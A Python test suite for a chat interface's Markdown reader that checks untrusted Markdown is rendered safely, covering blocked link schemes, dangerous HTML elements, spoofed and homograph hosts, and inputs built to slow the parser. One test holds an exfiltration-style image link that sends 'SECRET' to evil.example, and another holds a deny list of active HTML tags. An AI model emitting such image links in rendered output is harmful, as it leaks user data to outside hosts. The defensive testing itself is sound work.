"""What untrusted Markdown is turned into."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mnemoscope.ui.markdown.reading import reader
from mnemoscope.ui.markdown.reading.block_splitter import TABLE_ROWS, BlockSplitter, split_blocks
from mnemoscope.ui.markdown.reading.code_spans import lines_of_spans
from mnemoscope.ui.markdown.reading.link_address import inspect_link
from mnemoscope.ui.markdown.reading.reader import Piece, Run, read_text, tree_of
from mnemoscope.ui.markdown.reading.untrusted_text import tidied
from tests.support.own_time import at_most

CORPUS = json.loads((Path(__file__).parents[3] / "corpus" / "markdown.json").read_text(encoding="utf-8"))["cases"]
GENERATED = {
    "1 MB unbroken": "a" * 1_000_000,
    "50k brackets": "[" * 50_000,
    "20k entities": "&amp;" * 20_000,
    "5000-row table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 5_000,
}


def source_of(case: dict[str, str]) -> str:
    return case["markdown"] if "markdown" in case else GENERATED[case["case"]]


def pieces_of(text: str, *, breaks: bool = True) -> list[Piece]:
    return read_text(text, breaks=breaks)[0]


def runs_in(pieces: list[Piece]) -> list[Run]:
    cells = [run for piece in pieces for row in piece.table for cell in row for run in cell]
    return [run for piece in pieces for run in piece.runs] + cells


def words_of(text: str) -> str:
    pieces = pieces_of(text)
    return "".join(run.text for run in runs_in(pieces)) + "".join(piece.code for piece in pieces)


def links_of(text: str) -> list[str]:
    return [run.href for run in runs_in(pieces_of(text)) if run.href]


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case["case"])
def test_every_case_of_the_corpus_is_read_in_time_and_holds_no_address_that_may_not_be_opened(
    case: dict[str, str],
) -> None:
    with at_most(1.0):
        links = links_of(source_of(case))
    assert all(inspect_link(href).kind != "blocked" for href in links)


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case["case"])
def test_the_tree_of_every_case_has_only_elements_that_load_and_run_nothing(case: dict[str, str]) -> None:
    text = source_of(case)
    if len(text) < 100_000:
        tags = {element.tag for element in tree_of(text).iter()}
        assert tags.isdisjoint({"img", "script", "iframe", "svg", "meta", "form", "input", "object", "style", "link"})


@pytest.mark.parametrize(
    "case", [case for case in CORPUS if case["expect"] in ("text", "shown as text", "visible text")]
)
def test_raw_html_is_shown_as_text(case: dict[str, str]) -> None:
    assert words_of(case["markdown"]).startswith("<")


@pytest.mark.parametrize(
    "case", [case for case in CORPUS if case["expect"] == "click blocked"], ids=lambda c: c["case"]
)
def test_other_schemes_are_words_without_a_link(case: dict[str, str]) -> None:
    assert links_of(case["markdown"]) == []


def test_an_image_is_its_description() -> None:
    [run] = runs_in(pieces_of("![a](https://evil.example/p?d=SECRET)"))
    assert run == Run("[image: a]", frozenset({"image"}), href="", picture="https://evil.example/p?d=SECRET")


def test_a_nul_is_a_replacement_character_and_reordering_marks_are_gone() -> None:
    assert tidied("a\0b") == "a\ufffdb"
    assert tidied("safe\u202egpj.exe") == "safegpj.exe"
    assert tidied("a\r\nb\rc\u2028d") == "a\nb\nc\nd"


def test_an_overlong_run_is_broken_every_2000_characters() -> None:
    assert max(map(len, tidied("x" * 9_000).split("\u200b"))) == 2_000


@pytest.mark.parametrize(
    "knot", ["*a ", "`", "_a", "![a](b", "<a", "[a](", "**a", "> ", "- ", "\\", "||", "(", "http://"]
)
def test_text_tied_into_knots_is_read_in_time(knot: str) -> None:
    with at_most(1.0):
        pieces_of(knot * 20_000)


def test_a_spoofed_user_name_is_not_taken_for_the_host() -> None:
    found = inspect_link("https://bank.example@evil.example/")
    assert found.host == "evil.example"
    assert "bank.example" not in found.target
    assert (found.warnings[0].kind, found.warnings[0].about) == ("user", "bank.example")


def test_letters_of_other_alphabets_are_shown_as_they_are_looked_up() -> None:
    found = inspect_link("https://аpple.example/")
    assert found.host.startswith("xn--")
    assert found.shown == f"https://{found.host}/"


@pytest.mark.parametrize(
    "href", ["https://a b/", "https://x\\y/", "//host/x", "https://", "https://h:99999/", "HTTPS:", "mailto:x"]
)
def test_malformed_addresses_are_blocked(href: str) -> None:
    assert inspect_link(href).kind == "blocked"


def test_pieces_know_their_lines_their_depth_and_their_kind() -> None:
    text = "# T\n\npara\nmore\n\n1. one\n   ```py\n   x\n   ```\n  - in\n> q\n\n|a|b|\n|-|-|\n|1|2|\n---\n"
    found = [(piece.first_line, piece.last_line, piece.kind, piece.depth, piece.quote) for piece in pieces_of(text)]
    assert found == [
        (0, 0, "heading", 0, 0),
        (2, 3, "words", 0, 0),
        (5, 5, "item", 1, 0),
        (6, 8, "code", 1, 0),
        (9, 9, "item", 2, 0),
        (10, 10, "words", 0, 1),
        (12, 14, "table", 0, 0),
        (15, 15, "rule", 0, 0),
    ]


def test_blocks_fed_line_by_line_are_those_of_the_whole_text() -> None:
    text = "\n\n".join(
        [
            "# H",
            "a\nb",
            "- x\n  y\n- z\n\n  w",
            "```\ncode\n\nmore\n```",
            "> q\nlazy",
            "|a|\n|-|\n" + "|x|\n" * 60,
            "t\n: d",
            "[^1]: note\n  more",
            "1. a\n   ~~~\n   b\n\n   ~~~\n2. c",
        ]
    )
    splitter = BlockSplitter()
    closed = []
    for line in text.split("\n"):
        splitter.peek(line[: len(line) // 2])
        closed += splitter.feed(line)
    assert closed + splitter.finish() == split_blocks(text)


@given(
    st.lists(st.sampled_from(["a", "- b", "  - c", "1. d", "> e", "```", "|a|b|", "|-|-|", "", "    f", ": g", "---"]))
)
def test_no_line_is_lost_whatever_stands_below_what(lines: list[str]) -> None:
    shown = "".join(words_of("\n".join(lines)).split())
    for letter in "abcdefg":
        wanted = sum(line.count(letter) for line in lines)
        assert shown.count(letter) == wanted


def test_a_long_table_is_cut_into_parts_that_agree_on_their_header() -> None:
    parts = pieces_of("|a|\n|-|\n" + "|x|\n" * (TABLE_ROWS + 3))
    assert [part.continued for part in parts] == [True, False]
    assert [part.table[0] for part in parts] == [((Run("a"),),)] * 2
    assert [len(part.table) - 1 for part in parts] == [TABLE_ROWS, 3]


def test_a_table_of_too_many_rows_goes_on_as_text() -> None:
    pieces = pieces_of(GENERATED["5000-row table"])
    rows = sum(len(piece.table) - 1 for piece in pieces if piece.kind == "table")
    assert 500 <= rows < 500 + TABLE_ROWS
    assert rows + sum(piece.code.count("\n") + 1 for piece in pieces if piece.kind == "rows") == 5_000


def test_reference_links_find_their_definition_wherever_it_is() -> None:
    assert links_of("See [it][r].\n\n[r]: https://x.example/") == ["https://x.example/"]


def test_footnotes_are_numbers_and_their_texts_stand_where_they_were_written() -> None:
    words, note = pieces_of("So[^why] it is.\n\n[^why]: Because of *that*.")
    assert words.runs == (Run("So"), Run("1", frozenset({"raised"})), Run(" it is."))
    assert (note.kind, note.marker, note.first_line) == ("item", "1.", 2)
    assert "".join(run.text for run in note.runs) == "Because of that."


def test_single_line_ends_are_kept_only_where_asked() -> None:
    [kept], [joined] = pieces_of("a\nb"), pieces_of("a\nb", breaks=False)
    assert kept.runs == (Run("a\u2028b"),)
    assert joined.runs == (Run("a b"),)


def test_code_is_coloured_by_roles_of_the_theme() -> None:
    assert [span.role for span in next(iter(lines_of_spans("return 1", "python")))] == ["accent", "warning"]


def test_paragraphs_of_one_quotation_are_told_from_those_of_two() -> None:
    one, two = pieces_of("> a\n>\n> b\n>> c"), pieces_of("> a\n\n> b\n\nc")
    assert len({piece.quotation for piece in one}) == 1
    assert len({piece.quotation for piece in two}) == 3


def test_marks_become_runs_of_one_style_each() -> None:
    [piece] = pieces_of("a **b *c***\n<d> &lt; `&lt;` [e](https://e.org/?a=1&b=2) ~~f~~")
    assert piece.runs == (
        Run("a "),
        Run("b ", frozenset({"bold"})),
        Run("c", frozenset({"bold", "italic"})),
        Run("\u2028<d> < "),
        Run("&lt;", frozenset({"code"})),
        Run(" "),
        Run("e", href="https://e.org/?a=1&b=2"),
        Run(" "),
        Run("f", frozenset({"strike"})),
    )


EXPECTED = """
import sys, threading, time
from mnemoscope.ui.markdown.reading.reader import load_parser_soon, read_text

PARSER = "mnemoscope.ui.markdown.reading.parser"

class Watching:
    names = []
    def find_spec(self, name, path=None, target=None):
        if threading.current_thread() is threading.main_thread():
            self.names.append(name)

assert PARSER not in sys.modules
sys.meta_path.insert(0, Watching())
load_parser_soon()
for loading in [each for each in threading.enumerate() if each.name == "markdown"]:
    loading.join()
assert PARSER in sys.modules
print(read_text("see [docs](https://example.org)")[0])
print(*Watching.names)
"""


def test_the_parser_is_loaded_beside_the_window_once_an_answer_begins() -> None:
    done = subprocess.run([sys.executable, "-c", EXPECTED], capture_output=True, text=True, timeout=600, check=True)
    shown, loaded = done.stdout.split("\n", 1)
    assert "href='https://example.org'" in shown
    assert loaded.split() == []


def test_what_is_read_of_a_block_that_goes_on_is_not_kept() -> None:
    def kept() -> int:
        return reader._read_once.cache_info().currsize

    words = "A paragraph with **marks** that is written letter by letter."
    (whole,) = split_blocks(words)
    reader._read_once.cache_clear()
    for length in range(1, len(words)):
        (block,) = split_blocks(words[:length])
        reader.read_block(block, is_open=True)
    assert kept() == 0
    assert reader.read_block(whole, is_open=True) == reader.read_block(whole)
    assert kept() == 1


@pytest.mark.parametrize(("written", "marker"), [("- [ ]", "☐"), ("- [ ] ", "☐"), ("1. [x]", "☑"), ("- [ ]words", "•")])
def test_a_task_without_words_yet_has_its_box(written: str, marker: str) -> None:
    (piece,) = pieces_of(f"{written}\n")
    assert piece.marker == marker
